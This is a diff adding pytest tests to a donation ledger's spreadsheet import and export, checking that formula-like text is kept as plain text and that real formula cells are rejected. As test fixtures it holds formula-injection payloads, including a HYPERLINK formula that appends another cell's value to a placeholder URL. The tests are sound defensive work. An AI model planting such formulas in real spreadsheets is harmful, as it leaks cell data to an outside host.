@@ -274,3 +274,88 @@ def test_export_command_writes_the_staff_ledger_for_a_date_range(tmp_path):
     assert rows[0][6] == 1000 and rows[0][24] == files.FIXTURE_PHONE
     with pytest.raises(CommandError):
         call_command("export_ledger", "-o", str(target), "--from", "yesterday")
+
+
+ROUND_TRIP_TEXTS = ['=HYPERLINK("http://x/?"&A2)', "+1+2", "-2+3", "@SUM(A1)", "=1"]
+
+
+def _safe_cash_workbook(rows):
+    """A cash workbook written by the toolkit's safe writer (text cells, never formulas)."""
+    from home.ledger.importers import ALLOCATION_SHEET, CASH_SHEET, GOODS_SHEET
+    from home.spreadsheets import OutColumn, OutSheet, write_workbook
+
+    headers = CASH_SHEET.headers()
+    sheets = [
+        OutSheet(
+            CASH_SHEET.name, [OutColumn(h) for h in headers], [[r.get(h) for h in headers] for r in rows]
+        )
+    ]
+    for spec in (GOODS_SHEET, ALLOCATION_SHEET):
+        sheets.append(OutSheet(spec.name, [OutColumn(h) for h in spec.headers()], []))
+    buffer = io.BytesIO()
+    write_workbook(buffer, sheets)
+    return buffer.getvalue()
+
+
+def test_text_starting_like_a_formula_survives_import_export_and_reimport_unchanged():
+    import zipfile
+
+    import openpyxl
+
+    from home.ledger.exporters import write_staff_export
+
+    rows = [
+        files.cash_row(f"XJ00{i}", name=text, note=text, phone="", id_number="")
+        for i, text in enumerate(ROUND_TRIP_TEXTS, start=1)
+    ]
+    batch = upload(_safe_cash_workbook(rows))
+    assert batch.status == ImportStatus.DONE, batch.errors
+    for i, text in enumerate(ROUND_TRIP_TEXTS, start=1):
+        entry = LedgerEntry.objects.get(number=f"XJ00{i}")
+        assert (entry.donor.name, entry.donor.private.note) == (text, text)
+
+    exported = io.BytesIO()
+    write_staff_export(exported)
+    archive = zipfile.ZipFile(io.BytesIO(exported.getvalue()))
+    assert all(
+        "<f>" not in archive.read(name).decode() for name in archive.namelist() if name.endswith(".xml")
+    )
+    sheet = openpyxl.load_workbook(io.BytesIO(exported.getvalue())).active
+    header = [cell.value for cell in sheet[1]]
+    name_col, note_col = header.index("捐赠人"), header.index("备注")
+    exported_rows = list(sheet.iter_rows(min_row=2))
+    assert all(row[name_col].data_type == "s" and row[note_col].data_type == "s" for row in exported_rows)
+
+    # Re-import the exported rows (the export's columns mapped onto the import template).
+    again = [
+        files.cash_row(
+            "R" + row[0].value,
+            name=row[name_col].value,
+            note=row[note_col].value,
+            amount=row[header.index("金额（元）")].value,
+            phone="",
+            id_number="",
+        )
+        for row in exported_rows
+    ]
+    batch = upload(_safe_cash_workbook(again), name="again.xlsx")
+    assert batch.status == ImportStatus.DONE, batch.errors
+    stored = {
+        entry.number: (entry.donor.name, entry.donor.private.note, entry.amount)
+        for entry in LedgerEntry.objects.filter(number__startswith="R").select_related("donor__private")
+    }
+    assert stored == {
+        f"RXJ00{i}": (text, text, Decimal("1000.00")) for i, text in enumerate(ROUND_TRIP_TEXTS, start=1)
+    }
+
+
+def test_a_real_formula_cell_is_refused_in_text_and_amount_columns_alike():
+    data = files.ledger_workbook(
+        cash=[files.cash_row("XJ001", name='=HYPERLINK("http://x/?"&A2)', amount="=SUM(F2:F3)")]
+    )
+    batch = upload(data)
+    assert batch.status == ImportStatus.FAILED
+    reasons = {(error["row"], error["column"]): error["reason"] for error in batch.errors}
+    assert reasons[(2, "捐赠人")] == "不接受公式，请填写文字"
+    assert reasons[(2, "金额（元）")] == "不接受公式，请填写数值"
+    assert not LedgerEntry.objects.exists()
